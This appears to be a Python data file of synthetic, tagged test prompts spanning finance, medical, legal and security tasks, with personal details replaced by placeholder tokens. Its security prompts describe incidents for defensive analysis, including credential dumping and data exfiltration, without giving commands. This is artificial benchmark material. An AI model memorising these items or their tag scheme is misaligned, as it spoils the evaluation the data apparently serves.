Translate into French: "Claim reference CLM-2025-0098812 relates to policy 8830-112-447 and was filed on 2 May 2025 for EUR 48,200."
@ qa m l p
@ !hn
What's a normal adult platelet count? Mine came back 412 x10^9/L on the 2025-04-18 panel.
@ extract m m i
@ !hn
Pull the lot numbers and expiry dates from this vaccine fridge log.

Date        Product            Lot        Exp        Qty
2025-05-01  Fluad Tetra        QK448801   2026-02-28  40
2025-05-01  Comirnaty JN.1     HX2210     2025-11-30  60
2025-05-09  Shingrix           AS01B-3391 2027-06-30  25
@ classify m l i
@ !hn
Is this a recall notice or a routine update? "Batch 2025-0411-B of amoxicillin 500mg capsules (GTIN 05012345678900) is being withdrawn as a precaution."
@ sentiment g l p
@ !hn
Tone of this app review? "Version 5.0.3.118 is a disaster. Sync broke, dark mode broke. 1 star until 5.0.4 ships."
@ creative g l p
@ !hn
Write a short, funny haiku about build 2.0.0.1 failing on Friday at 17:59
@ chat g l p
@ !hn
lol our release is literally version 4.2.0.17 and the PM wants to call it 5.0 "for marketing". thoughts?
@ reasoning g m i
@ !hn
The tracking number 1Z 4E7 992 03 4471 8829 shows "label created" since 3 June, and order 77120-44 was marked shipped on 2 June. Which party is most likely at fault for the delay?
@ extract g m i
@ !hn
Which part numbers in this BOM are end-of-life?

Item  Part No.          Desc                  Status
1     STM32F407VGT6     MCU                   Active
2     LM2596S-5.0       Buck regulator        EOL (last buy 2025-09-30)
3     0603-10K-1%       Resistor              Active
4     MAX3232ECAE+      RS-232 transceiver    NRND
@ draft f m i :: Write a payment reminder for invoice 2025/0318 (EUR 18,400.00, due 15 April 2025)
@ math f m i calc :: compute the late-payment interest at 8% p.a. for 47 days
@ !hn
Write a payment reminder for invoice 2025/0318 (EUR 18,400.00, due 15 April 2025) and compute the late-payment interest at 8% p.a. for 47 days.
@ code g m i code
@ !hn
Write a regex that matches ticket ids like JIRA-4412, INC0048213 and CASE-000771 but not plain numbers.
@ qa g l p
@ !hn
Is 978-3-16-148410-0 a valid ISBN-13 or did I copy it wrong?
@ classify f m i
@ !hn
Are these card numbers or something else? They fail Luhn: {XC6}, {XC7}. Label each as card / gift voucher / unknown.
@ reasoning f h c
@ !hn
Auditor flagged account reference {XI3} as a foreign IBAN that bypassed the sanctions screen. Its checksum doesn't validate. Is this an IBAN at all? Walk through how you'd decide.
@ summarize s m i
@ !hn
Give me a short summary of what this Windows event block says.

Log Name: System
Source: Microsoft-Windows-WindowsUpdateClient
Date: 2025-05-14T03:12:44.118Z
Event ID: 19
Installation Successful: Windows successfully installed the following update: 2025-05 Cumulative Update for Windows 11 Version 23H2 for x64-based Systems (KB5058405), OS Build 22631.5335
@ extract s m i
@ !hn
Extract the hash, file path and version from this EDR detection.

Detection: Trojan:Win32/Wacatac.B!ml
File: C:\ProgramData\Updater\svchelper.exe
Product version: 10.0.19041.3636
SHA256: 5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8
First seen: 2025-06-02 14:33:10 UTC
@ classify s l i
@ !hn
Is "C:\Program Files\Vendor\Agent\6.4.2.1103\agent.exe" a normal install path or suspicious?
@ math m l p calc
@ !hn
Dose for a 23.5 kg child at 15 mg/kg every 6 hours — how much per day?
@ translate m l i
@ !hn
Put this into Japanese: "Specimen tube batch 44-7721 and lot R2025-118 must be stored at 2–8 °C until 2026-01-31."
@ draft l m i
@ !hn
Draft a cover letter to the court registry enclosing exhibits A-1 to A-14 for Case No. HC/S 412/2024, filed 21 May 2025.
@ qa f l p
@ !hn
Is a 9-digit number like 021000021 on my cheque my account number or something else?
@ extract f m i
@ !hn
Pull the NRIC-looking strings from this export and tell me if any are valid: {XN1}, {XN2}, S0000000A. (Our system says they're references, not IDs.)
@ reasoning l m i
@ !hn
The contract says renewal notice must be given "not less than 90 days before 30/09/2025". Today is 2025-07-04. Are we still in time? Explain.
"""

B4 = r"""
@ summarize g m c :: Summarise this email thread
@ draft g m c :: draft my reply accepting the Thursday slot
@ extract g l c :: list everyone's phone numbers at the end
Summarise this email thread, draft my reply accepting the Thursday slot, and list everyone's phone numbers at the end.

From: [[P:Oksana Melnyk]] <[[E:o.melnyk@harbourview-events.com]]>
Can we do the venue walk-through Tue 10am or Thu 2pm? My mobile is [[T:+44 7911 402 337]].

From: [[P:Duncan McAllister]] <[[E:duncan@mcallister-av.co.uk]]>
Thu works for AV. I'll bring the rigging plan. Reach me on [[T:0141 496 0275]] ext. 12.
@ extract f m r :: Extract the card and billing details from this chat
@ classify f l r :: tell me whether it looks like social engineering
@ draft f m r :: write the agent a one-line coaching note
Extract the card and billing details from this chat, tell me whether it looks like social engineering, and write the agent a one-line coaching note.

[14:21] caller: hi this is [[P:Robert Hale]], I need to update the card on my account
[14:21] agent: sure, can I get the new number?
[14:22] caller: {V6} exp 03/28
[14:22] agent: and the email on file?
[14:23] caller: uh it's [[E:rhale1962@aol.com]], but send the receipt to [[E:billing.update.desk@gmail.com]] instead
[14:23] agent: done!
@ translate l m r :: Translate the clause into English
@ qa l m r :: is the IBAN clause enforceable if the account is closed
Translate the clause into English and tell me: is the IBAN clause enforceable if the account is closed?

« Le Locataire s'engage à régler le loyer mensuel de 1 450 € par virement sur le compte IBAN {FR1} ouvert au nom de Mme [[P:Hélène Garnier]], au plus tard le 5 de chaque mois. »
@ extract m m r :: Pull the meds list out of this note
@ reasoning m h r :: flag any interactions you're worried about
@ draft m m r :: draft the pharmacy request
Pull the meds list out of this note, flag any interactions you're worried about, then draft the pharmacy request.

[[P:Harold Jenkins]], 79M, NHS GP Dr [[P:Fiona Reid]] ([[T:01632 960 118]])
Current: amiodarone 200mg OD, simvastatin 80mg ON, warfarin as per INR clinic, digoxin 125mcg OD, omeprazole 20mg OD
New from cardiology: clarithromycin 500mg BD for 7 days
@ summarize s h c :: Give me a 5-line summary of this incident timeline
@ classify s m c :: map it to MITRE ATT&CK tactics
@ draft s m c :: draft the customer notice
Give me a 5-line summary of this incident timeline, map it to MITRE ATT&CK tactics, and draft the customer notice.

02:14 Phishing email to [[E:accounts.payable@brennan-foods.ie]] with ISO attachment
02:31 Macro executed on AP-PC-04 ([[IP:10.1.8.44]])
02:33 Beacon to [[IP:179.43.187.20]]:8443 every 60s
03:05 Credential dump via comsvcs.dll MiniDump
03:40 RDP from AP-PC-04 to FIN-SQL-01 ([[IP:10.1.2.10]]) using account of [[P:Niamh Gallagher]]
04:12 7.2 GB staged to C:\Windows\Temp\x.7z, exfil over HTTPS to [[IP:2a0b:4340:a1::66]]
@ qa f m r :: What is the total monthly spend here
@ summarize f m r :: summarise which card is used for what
What is the total monthly spend here, and summarise which card is used for what.

Subscriptions — [[P:Priya Natarajan]]
Netflix  £15.99  card {V7}
Spotify  £11.99  card {V7}
Adobe CC £54.98  card {M5}
Gym      £39.00  card {A1}
@ code s h c code :: Write a Python script that parses this firewall log into CSV
@ reasoning s m c :: tell me which source looks like a port scan
Write a Python script that parses this firewall log into CSV, then tell me which source looks like a port scan.

Jun 10 11:02:01 fw01 DROP IN=eth0 SRC=[[IP:45.95.147.236]] DST=[[IP:203.0.113.10]] PROTO=TCP SPT=40212 DPT=22
Jun 10 11:02:01 fw01 DROP IN=eth0 SRC=[[IP:45.95.147.236]] DST=[[IP:203.0.113.10]] PROTO=TCP SPT=40213 DPT=23
Jun 10 11:02:02 fw01 DROP IN=eth0 SRC=[[IP:45.95.147.236]] DST=[[IP:203.0.113.10]] PROTO=TCP SPT=40214 DPT=25
Jun 10 11:02:09 fw01 ACCEPT IN=eth0 SRC=[[IP:81.2.69.142]] DST=[[IP:203.0.113.10]] PROTO=TCP SPT=51022 DPT=443
@ classify g l c :: Tag each ticket as billing, bug or how-to
@ sentiment g l c :: give the overall mood of the queue
Tag each ticket as billing, bug or how-to, and give the overall mood of the queue.

#1 from [[E:ana.souza@bol.com.br]]: "Why was I charged twice this month???"
#2 from [[E:jchen@northwind.dev]]: "Export to PDF crashes on page 3."
#3 from [[E:m.oconnell@eircom.net]]: "How do I add a second user? Love the app btw"
@ draft l h r :: Draft an employment contract offer letter
@ math f l r calc :: calculate her monthly gross
Draft an employment contract offer letter for [[P:Nadia Rahimi]] (SSN {SS3}) as Senior Analyst at $118,500 a year, and calculate her monthly gross.
@ extract g m c :: From the form submission below extract the fields as JSON
@ classify g l c :: say whether it's a sales lead or a support request
From the form submission below extract the fields as JSON and say whether it's a sales lead or a support request.

Name: [[P:Kwame Asante]]
Company: Volta Solar Ltd
Email: [[E:kwame@voltasolar.com.gh]]
Phone: [[T:+233 24 412 3345]]
Message: We'd like a quote for 40 licences, ideally before our board meeting.
@ translate g l c :: translate it into Chinese
@ draft g l c :: write a friendlier English version
Here's our out-of-office message. First translate it into Chinese, then write a friendlier English version.

"I am out of office until 18 August. For urgent matters contact [[P:Wendy Zhao]] on [[T:+86 21 6123 4567]] or [[E:wendy.zhao@meridian-trade.cn]]."
@ summarize m h r :: Summarise the MDT outcome for the patient's record
@ extract m l r :: list the actions with owners
Summarise the MDT outcome for the patient's record and list the actions with owners.

Lung MDT 12/06 — [[P:Patricia Doyle]], 66F, MRN 7710238
CT: 2.8 cm spiculated RUL nodule, PET avid SUV 9.1, no nodal disease. Biopsy: adenocarcinoma, EGFR neg, PD-L1 60%.
Outcome: stage IB, fit for surgery. Refer thoracic surgery (Mr [[P:Ahmed Saleh]]), PFTs by Dr [[P:Rao]], CNS [[P:Joanne]] to call patient on [[T:07700 900 732]].
@ code f m r code :: Write SQL that finds customers with more than one card on file
@ qa f l r :: is storing PANs like this PCI compliant
Write SQL that finds customers with more than one card on file. Also, is storing PANs like this PCI compliant?

INSERT INTO cards (customer_email, pan, exp) VALUES
('[[E:lena.schultz@gmx.de]]', '{V8}', '2027-04'),
('[[E:lena.schultz@gmx.de]]', '{M6}', '2026-11'),
('[[E:omar.haddad@outlook.com]]', '{D1}', '2028-01');
@ reasoning l h r :: Is the landlord allowed to keep the deposit here
@ draft l m r :: draft a letter before action
Is the landlord allowed to keep the deposit here? If not, draft a letter before action.

Tenant: [[P:Sean Murphy]], [[E:seanmurphy88@gmail.com]]. Deposit £1,850 paid 01/09/2023 to landlord [[P:Graham Whitlock]], account {GB3}. Not protected in a scheme. Tenancy ended 31/08/2024, no damage noted at checkout. Landlord refuses to return it citing "cleaning".
@ extract g l c :: pull the attendees' emails from this calendar invite
@ draft g l c :: write a 3-line agenda
pull the attendees' emails from this calendar invite and write a 3-line agenda

BEGIN:VEVENT
SUMMARY:Q3 planning
DTSTART:20250714T090000Z
ORGANIZER;CN=[[P:Mia Larsen]]:mailto:[[E:mia.larsen@nordlys.dk]]
ATTENDEE;CN=[[P:Henrik Dahl]]:mailto:[[E:henrik.dahl@nordlys.dk]]
ATTENDEE;CN=[[P:Sofie Berg]]:mailto:[[E:sofie.berg@nordlys.dk]]
END:VEVENT
@ math f m r calc :: Work out how much interest I've paid this year
@ reasoning f m r :: whether I should move the balance to the 0% card
Work out how much interest I've paid this year and whether I should move the balance to the 0% card. Card {M7} balance £4,200 at 24.9% APR, minimum payments only. Offer card: 0% for 18 months, 3% transfer fee.
@ classify s m c :: Classify each of these log lines as benign or suspicious
@ summarize s m c :: sum up the story in two sentences
Classify each of these log lines as benign or suspicious, then sum up the story in two sentences.

10:01:22 VPN login ok user=[[E:t.ibrahim@oasiscargo.ae]] src=[[IP:94.200.14.3]]
10:01:40 VPN login ok user=[[E:t.ibrahim@oasiscargo.ae]] src=[[IP:103.75.118.9]]
10:02:05 MFA push denied user=[[E:t.ibrahim@oasiscargo.ae]]
10:02:31 MFA push approved user=[[E:t.ibrahim@oasiscargo.ae]]
@ creative g l c :: Write a short welcome poem for our new intern
@ draft g l c :: a Slack message introducing her to the team
Write a short welcome poem for our new intern [[P:Zara Ahmed]] and a Slack message introducing her to the team (she's on [[E:zara.ahmed@pixelforge.studio]]).
@ extract l m r :: Extract each director's name and ID number from this ACRA profile
@ summarize l m c :: summarise the company's status
Extract each director's name and ID number from this ACRA profile and summarise the company's status.

Entity: LIONGATE TECH PTE. LTD. (UEN 201912345K) — Live Company
Directors:
1. [[P:ONG WEI MING]]  S'pore Citizen  NRIC {N8}  appointed 02/03/2019
2. [[P:PRIYA SHARMA]]  Employment Pass  FIN {N9}  appointed 15/07/2021
Paid-up capital: SGD 500,000. Last AGM: 30/06/2024. Annual return filed.
@ qa g l c
what's the best time to call someone at [[T:+1 (808) 555-0142]] if I'm in London?
@ qa f l r
Is {A2} an Amex? The customer [[P:Jorge Ramírez]] says our form won't accept it.
@ extract f l r
what bank is this IBAN from? {ES1}
@ extract f l r
check digits and country for {DE2} please
@ classify f l r
Is this a personal or business account? "Beneficiary: [[P:Alessandro Conti]], IBAN {IT2}, causale: stipendio giugno"
@ math f l r calc
Split 1,876.40 EUR three ways and send to: {AT2}, {LU1} and {SE1}. How much each, rounded to the cent?
@ draft f l r
Short SEPA payment instruction for our bank: pay CHF 7,250.00 to Alpenblick Immobilien AG, IBAN {CH2}, reference "Miete Juli 2025".
@ sentiment l l c
Sentiment of this tenant email: "Dear Mr [[P:Kaplan]], the heating has been off for 9 days. I have a baby. Call me back on [[T:(917) 555-0163]] TODAY."
@ qa s l c
Is [[IP:172.217.16.142]] a Google IP or should I be worried it's in my DNS logs?
@ reasoning s m c
Why would [[IP:::ffff:192.0.2.128]] show up in an IPv6-only app log? Explain.
"""

B5 = r"""
@ extract f m r :: Fill in this table from the application form
@ reasoning f h r :: tell me if anything looks inconsistent
Fill in this table from the application form, then tell me if anything looks inconsistent.

LOAN APPLICATION
Applicant: [[P:Tyrone Jackson]]      SSN: {SS4}
DOB: 1985-07-22                      Phone: [[T:(404) 555-0179]]
Employer: Peachtree Logistics, 6 yrs Annual income: $72,000
Co-applicant: [[P:Keisha Jackson]]   SSN: {SS5}
Requested: $340,000 mortgage, 30y fixed, down payment $15,000

| field | applicant | co-applicant |
@ qa f l r :: is it safe to email my SSN to my accountant
@ draft f l r :: write the email anyway but with the SSN removed
Quick one: is it safe to email my SSN to my accountant? It's {SS6}. If not, write the email anyway but with the SSN removed, to [[E:jfrank.cpa@frankandlowe.com]].
@ summarize l h r :: Summarise this deposition excerpt in 5 bullets
@ extract l m r :: pull out every name, number and identifier mentioned
Summarise this deposition excerpt in 5 bullets and pull out every name, number and identifier mentioned.

Q. Ms. [[P:Alvarez]], what is your social security number, for the record?
A. [[S:521 44 8073]].
Q. And you were employed by Redline Freight from 2019 to 2023?
A. Yes, my supervisor was [[P:Dale Kowalski]]. I reported the falsified logs to him by email, from [[E:m.alvarez77@hotmail.com]], on March 3rd.
Q. Did he respond?
A. He called me on my cell, [[T:(602) 555-0137]], and told me to delete it.
@ classify g l c :: Detect the language of each line
@ translate g l c :: translate them all into English
Detect the language of each line and translate them all into English.

1. Bitte rufen Sie Frau [[P:Weber]] unter [[T:+49 221 9876 5432]] zurück.
2. Merci d'écrire à [[E:service.client@maisonlemoine.fr]] avant vendredi.
3. [[P:田中]]さんに[[T:03-5555-0123]]まで電話してください。
4. Per favore contatta [[P:Giulia Ferraro]] a [[E:g.ferraro@studiolegaleferraro.it]].
@ code g m c code :: Write a JavaScript validator for this signup form
@ reasoning g m c :: explain why the second entry should fail
Write a JavaScript validator for this signup form and explain why the second entry should fail.

{"name": "[[P:Hiroshi Sato]]", "email": "[[E:hiroshi.sato@docomo.ne.jp]]", "phone": "[[T:+81 90-1234-5678]]"}
{"name": "[[P:Ola Nordmann]]", "email": "ola.nordmann(at)online.no", "phone": "[[T:+47 4001 2345]]"}
@ summarize s m c :: Summarise the access review
@ classify s l c :: mark which accounts should be disabled
Summarise the access review and mark which accounts should be disabled.

user                                 last_login   last_ip            role
[[E:j.okafor@tidewater.io]]             2025-06-10   [[IP:10.0.4.21]]          admin
[[E:contractor.vn@tidewater.io]]        2024-11-02   [[IP:113.161.74.2]]       admin
[[E:s.lindgren@tidewater.io]]           2025-06-12   [[IP:2001:db8:1::a]]      viewer
[[E:old.intern@tidewater.io]]           2024-02-28   [[IP:10.0.9.77]]          editor
@ draft s m c :: Write a short Slack alert
@ code s m c code :: a Python snippet that blocks the address with iptables
Write a short Slack alert for the on-call team and a Python snippet that blocks the address with iptables. Offending host: [[IP:2a02:6b8:b010:a0ff::1]], hitting /wp-login.php 900 times a minute.
@ summarize m h r :: Summarise the history for the anaesthetist
@ qa m m r :: is she safe for a GA tomorrow
Summarise the history for the anaesthetist and answer: is she safe for a GA tomorrow?

Pre-op clinic — [[P:Yasmin Haddad]], 54F, for lap cholecystectomy. BMI 41. OSA on CPAP, HTN on amlodipine, T2DM on insulin (HbA1c 82). Previous difficult intubation noted 2016 (Cormack-Lehane 3). Last ECG: AF rate 110, new. Contact: [[E:yasmin.haddad@bigpond.com]]
@ translate m m r :: Translate the prescription instructions into Arabic
@ draft m l r :: write a text reminder for the patient
Translate the prescription instructions into Arabic and write a text reminder for the patient (Mr [[P:Youssef Mansour]], [[T:+971 50 123 4567]]).

Take 1 tablet of levothyroxine 75mcg every morning on an empty stomach, 30 minutes before breakfast. Blood test in 6 weeks.
@ extract m m r :: Extract the vitals
@ classify m m r :: give the NEWS2 risk band
Extract the vitals and give the NEWS2 risk band for [[P:Bartholomew King]] (NRIC {N10}): RR 24, SpO2 93% on air, BP 98/60, HR 118, temp 38.9, new confusion.
@ math f m r calc :: Calculate the total owed including the 1.5% monthly late fee for 3 months
@ draft f m r :: draft a friendly payment plan offer
Calculate the total owed including the 1.5% monthly late fee for 3 months, then draft a friendly payment plan offer to [[P:Graciela Montoya]] ([[E:gmontoya@telmex.net.mx]]), balance $2,340.00 on card {V9}.
@ sentiment g l c :: What's the sentiment of this feedback
@ draft g l c :: reply to the customer thanking her
What's the sentiment of this feedback, and reply to the customer thanking her.

"Honestly the best support I've had from any telco. [[P:Sanjay]] on the phone stayed with me for an hour. — [[P:Meera Pillai]], [[T:+91 98450 12345]]"
@ creative g m c :: Write a wedding toast
@ creative g l c :: a short text message to the couple
Write a wedding toast for my brother [[P:Callum]] and his fiancée [[P:Isla Fraser]], plus a short text message to the couple to send the morning after. Bits to include: they met at a pub quiz, both hate coriander.
@ chat g l c
Sorry for the late reply! Yes I'm still keen on the bike, is Saturday ok? my number's [[T:07456 123 098]], text when you're outside 🙂
@ chat s l c
hey, IT said my laptop ([[IP:10.22.7.65]]) got flagged?? I didn't click anything weird I swear, just the usual stuff
@ qa g l c
does [[E:noreply@accounts.google.com]] ever send password reset links or is this fake?
@ summarize g m c
Summarise this meeting transcript in 4 bullets.

[[P:Felipe]]: ok so the Brazil launch slips to September
[[P:Aroha Ngata]]: that's fine for marketing, we haven't booked media yet
[[P:Felipe]]: legal still needs the LGPD review, [[P:Carla]] is on it
[[P:Carla Mendes]]: I'll have it by the 20th, ping me at [[E:carla.mendes@orbita.com.br]] if anything changes
[[P:Aroha Ngata]]: budget stays at R$ 1.2m
@ extract g l c
Get the phone numbers out of this text and normalise them to E.164:
"Call the Sydney office on [[T:(02) 9374 4000]], Melbourne on [[T:03 9123 4567]], or my mobile [[T:0412 345 678]]."
@ extract g l c
normalise these to +CC format: [[T:020 7946 0018]], [[T:+44 (0)20 7946 0991]], [[T:0044 20 7946 0456]]
@ classify g l c
mobile or landline? [[T:+49 1512 3456789]] / [[T:+49 40 4289 1123]] / [[T:+33 7 81 22 45 90]]
@ qa s l c
whats the country for this IP [[IP:41.203.72.11]]
@ code s m c code
In Go, how do I parse "[[[IP:2001:db8::68]]]:443" into host and port correctly? net.SplitHostPort gives me an error on my version.
@ code s m c code
Convert this iptables rule to nftables:
-A INPUT -s [[IP:198.51.100.77]]/32 -p tcp --dport 3306 -j ACCEPT
@ reasoning s h c
Given this sequence, did the attacker pivot? Reason carefully.
[[IP:10.5.0.12]] -> [[IP:10.5.0.40]]:445 SMB auth OK (svc_sql)
[[IP:10.5.0.40]] -> [[IP:10.5.3.2]]:5985 WinRM OK (svc_sql)
[[IP:10.5.3.2]] -> [[IP:91.92.240.18]]:443 TLS, 2.1GB out
@ draft l m c
Write a cease and desist letter to [[P:Brandon Keele]] ([[E:brandon@keele-media.net]]) who keeps using our client's photographs on his blog without licence.
@ classify l l c
GDPR question: is "[[IP:88.214.26.3]]" in our web server logs personal data? Yes or no, with one line why.
@ qa l m r
The background check vendor asked for the candidate's SSN ([[S:078-05-1121]]) over email. Are we allowed to send it that way under FCRA?
@ extract l m r
Extract the key terms (parties, amount, dates, bank details) from this settlement letter.

WITHOUT PREJUDICE SAVE AS TO COSTS
Our client [[P:Rebecca Thornton]] accepts GBP 42,500 in full and final settlement, payable within 14 days of 2 July 2025 to our client account: Harlow & Finch LLP, IBAN {GB4}. Please confirm by reply to [[E:r.finch@harlowfinch.law]].
@ sentiment f l r
Is this complaint angry or just frustrated? "I gave you my IBAN {BE2} TWICE and my refund still hasn't arrived. — [[P:Wouter Peeters]]"
@ summarize f m r
Summarise Ms. [[P:Jennifer Walsh]]'s account activity for the fraud analyst.

Card {A3}
06/01 09:14 Starbucks Seattle $6.45
06/01 11:52 Amazon Mktp $412.88
06/01 11:53 Amazon Mktp $412.88
06/01 11:55 Amazon Mktp $412.88
06/01 12:10 Western Union online $1,950.00
06/02 08:03 Starbucks Seattle $6.45
@ classify f l r
Which network? {D2} / {J1} / {M8}
@ extract f m r
Pull the last four digits and card brand from each of these, and ignore the ones that are already masked:
{V10}
**** **** **** 5521
{J2}
4532 •••• •••• 0098
@ reasoning m m c
My dad ([[P:George Papadopoulos]]) was told his PSA went from 4.1 to 6.8 in a year. Does that mean cancer? Walk me through the possibilities.
@ draft m m r
Draft a sick note for [[P:Mohammed Al-Farsi]], NRIC {N11}, unfit for work 5-9 June 2025 due to acute gastroenteritis.
@ classify m l r
ICD-10 code for this? "[[P:Sunita Devi]], 61F, newly diagnosed type 2 diabetes with diabetic retinopathy, no macular oedema."
@ creative m l c
Write a gentle children's story to help my daughter [[P:Ava]] understand her new insulin pump.
@ math m l c calc
[[P:Ethan]] weighs 18 kg. Amoxicillin is 40 mg/kg/day split into 3 doses, and the suspension is 250 mg/5 mL. How many mL per dose?
@ qa m l c
I'm [[P:Chiara Russo]], 29 weeks pregnant — can I fly to Rome next week? My midwife's number is [[T:+39 06 6859 1234]] but she's off till Monday.
"""

B6 = r"""
@ summarize g m i :: Summarise what changed between these two package.json files
@ reasoning g m i :: tell me which upgrade is most likely to break the build
@ !hn
Summarise what changed between these two package.json files and tell me which upgrade is most likely to break the build.

before: "react": "17.0.2", "webpack": "4.46.0", "typescript": "4.9.5", "eslint": "8.57.0"
after:  "react": "18.3.1", "webpack": "5.91.0", "typescript": "5.4.5", "eslint": "9.2.0"
@ extract g l i :: Extract the firmware versions
@ classify g l i :: label each device as up to date or outdated given that the latest is 3.2.1.40
@ !hn
Extract the firmware versions and label each device as up to date or outdated given that the latest is 3.2.1.40.

cam-lobby      fw 3.2.1.40   uptime 41d
cam-parking    fw 3.1.9.12   uptime 203d
cam-dock       fw 3.2.0.7    uptime 12d
nvr-main       fw 2.8.4.1100 uptime 388d
@ math f m i calc :: Calculate the VAT on each line
@ summarize f l i :: summarise the invoice in one sentence for the approver
@ !hn
Calculate the VAT on each line at 20% and summarise the invoice in one sentence for the approver.

INVOICE INV-UK-2025-004417   PO 7710042218   Date 03/06/2025
Line 1  Part 44-1180-02  Hydraulic pump       2 x 1,140.00
Line 2  Part 44-1181-07  Seal kit             6 x   48.50
Line 3  Labour (call-out ref CO-88120)        1 x  395.00
@ classify f l i :: Which of these references are invoices, which are purchase orders
@ code f m i code :: give me a regex for each type
@ !hn
Which of these references are invoices, which are purchase orders, and which are credit notes? Then give me a regex for each type.
INV-2025-00331, PO-4500021876, CN-2025-0042, INV-2024-12988, PO-4500021901, CN-2024-0310
@ reasoning f h i :: Reconcile these two lists
@ draft f m i :: draft an email to the supplier about the mismatches
@ !hn
Reconcile these two lists and draft an email to the supplier about the mismatches.

Our ledger:               Supplier statement:
INV-88120   4,200.00      INV-88120   4,200.00
INV-88134   1,180.50      INV-88134   1,810.50
INV-88139     912.00      INV-88141   2,030.00
CN-00412     -300.00      INV-88139     912.00
@ qa s l i :: What's the difference between these two CIDR blocks
@ reasoning s m i :: does 10.96.14.0/23 fall inside either of them
@ !hn
What's the difference between these two CIDR blocks, and does 10.96.14.0/23 fall inside either of them? 10.96.0.0/12 and 10.96.0.0/20.
@ extract s m i :: Extract every version string from this vulnerability scan
@ summarize s m i :: summarise the overall risk
@ !hn
Extract every version string from this vulnerability scan and summarise the overall risk.

Plugin 10881  OpenSSH < 9.3p2 (detected 8.9p1)        High
Plugin 51192  TLS certificate expired 2025-04-30      Medium
Plugin 14272  Apache httpd 2.4.57 mod_proxy issue     High
Plugin 19506  Nessus scan info (10.7.3 build 20087)   Info
@ translate l m i :: Translate this paragraph into Spanish
@ extract l l i :: list the deadlines it mentions
@ !hn
Translate this paragraph into Spanish and list the deadlines it mentions.

"Under Purchase Agreement PA-2025-118, the Buyer shall pay the second instalment of USD 250,000 by 31 August 2025 and the final instalment of USD 125,000 within 30 days of acceptance under Clause 7.3.2."
@ summarize m m i :: Summarise this stock report
@ math m l i calc :: how many days of supply we have for each item at current use
@ !hn
Summarise this stock report and calculate how many days of supply we have for each item at current use.

Item                        Lot        Exp         On hand   Daily use
Ceftriaxone 1g vials        CF24-7712  2026-03-31  420       35
Enoxaparin 40mg syringes    EX8831     2025-12-31  900       60
Saline 0.9% 1L              NS-250611  2027-06-30  2,400     150
@ classify g l p
@ !hn
Fiction, non-fiction or textbook? ISBN 978-0-14-118776-1, "Nineteen Eighty-Four", Penguin Modern Classics, 2004 reprint.
@ extract g l i
@ !hn
Extract the flight numbers, booking reference and times: "Booking ref QX7K2M. LH 2031 MUC 07:15 → HAM 08:25 on 14/07/2025; return LH 2046 HAM 19:40 → MUC 20:55 on 16/07/2025."
@ qa g l p
@ !hn
what time zone is 2025-07-14T09:00:00+09:30 in?
@ chat g l p
@ !hn
ugh, spent the whole day chasing ticket SR-2025-33817 only to find it was a duplicate of SR-2025-33790. how's your friday going
@ creative g l p
@ !hn
Write a mock-epic poem about the warehouse team shipping order 1,000,000 (PO 9900018832) on time.
@ sentiment g l p
@ !hn
Sentiment, one word: "Order 44871-B arrived two days early, packaging was great, will buy again."
@ sentiment f l i
@ !hn
How annoyed is this supplier on a scale of 1-5? "This is our FOURTH reminder about invoice 2025-INV-7781 for EUR 23,900. Please pay or we will suspend deliveries from 1 August."
@ draft f l i
@ !hn
Draft a two-line note to accounts payable saying invoice 88201-77 for USD 14,880.00 is approved against cost centre 4410-220 and project P-25-0193.
@ qa f l i
@ !hn
My card statement shows a merchant reference 7420 1189 0034 5512 9 next to the charge. Is that my card number?
@ extract f m i
@ !hn
From this SWIFT MT103 excerpt give me the sender reference, value date, currency and amount.

:20:FT25162HQ7RX
:32A:250611EUR48250,00
:50K:/00417788219
ACME TRADING GMBH
:59:/NL00BANK0000000000
NORDIC PARTS BV
:71A:SHA
@ reasoning f m i
@ !hn
Is {XI4} a valid IBAN? The length looks right for NL but our system rejects it. Explain what's wrong.
@ code f m i code
@ !hn
Write unit tests for our Luhn check. It should accept 79927398713 and reject {XC4} and {XC8}.
@ classify f m i
@ !hn
Our DLP tool flagged {XC5} in a spreadsheet as a credit card. It's our internal asset tag format. Should this be a true positive or false positive?
@ qa l l p
@ !hn
What does "Section 1.2.3.4 of Annex IV" usually refer to in an EU regulation citation like Regulation (EU) 2016/679?
@ summarize l m i
@ !hn
Summarise this court order in plain English.

IN THE HIGH COURT OF JUSTICE, BUSINESS AND PROPERTY COURTS, Claim No. BL-2025-000412. UPON the Claimant's application dated 12 May 2025 AND UPON reading the witness statement dated 9 May 2025, IT IS ORDERED THAT: 1. The Defendant shall file its Defence by 4pm on 27 June 2025. 2. Costs in the case. 3. Permission to apply.
@ draft l m i
@ !hn
Draft a 3-sentence letter to the insurer confirming claim CLM/88/2025/00412 under policy POL-HH-7781034 was settled on 14 May 2025 for GBP 6,420.
@ extract l l i
@ !hn
List the statute citations: 15 U.S.C. § 1681b(a)(3)(A), 42 U.S.C. § 2000e-2, 29 C.F.R. § 1630.2(g).
@ reasoning l h i
@ !hn
Contract A is dated 2024-11-30 with a 24-month term and 6-month notice; contract B starts 2025-02-01 for 36 months with 90 days' notice. If we want both to end on the same day, when do we serve notice on each? Show your working.
@ classify m l p
@ !hn
Is a troponin of 14 ng/L with reference <14 normal or borderline? Lab run 2025-06-02 08:40, analyser firmware 5.1.2.
@ qa m l i
@ !hn
The pharmacy says lot 4481-22A of my insulin pens is recalled. Where do I check if it affects me?
@ extract m l i
@ !hn
Pull the device identifier and software version out of this pacemaker interrogation header: "Model ADDR01 / SW 2.4.1.88 / Interrogated 2025-05-30 10:14 / Battery 8.1 yrs / Leads 5076-52 & 5092-58"
@ summarize m m i
@ !hn
Summarise this QC log for the lab manager.

2025-06-10 07:02 QC L1 glucose 5.4 (target 5.5 ± 0.3) PASS  reagent lot G-2291
2025-06-10 07:02 QC L2 glucose 16.9 (target 16.7 ± 0.8) PASS  reagent lot G-2291
2025-06-10 13:15 QC L1 glucose 6.1 (target 5.5 ± 0.3) FAIL  reagent lot G-2304
2025-06-10 13:40 QC L1 glucose 5.6 PASS after recalibration, reagent lot G-2304
@ code s m i code
@ !hn
Write a YARA rule that matches the string "build 7.3.1.2204" and the mutex "Global\\MsUpd_4410_22" in PE files.
@ classify s l i
@ !hn
Is this a CVE id, a KB number or a build number: KB5034441, 10.0.22621.3007, CVE-2024-21413?
@ qa s l p
@ !hn
What does the OID 1.2.840.113549.1.1.11 in my certificate mean?
@ extract s l i
@ !hn
From this cert dump, what are the serial number and validity dates?

Serial Number: 0e:4f:8a:11:22:7c:90:d3:15:2a:b8:fe:31:07:66:09
Not Before: Mar  1 00:00:00 2025 GMT
Not After : Mar 31 23:59:59 2026 GMT
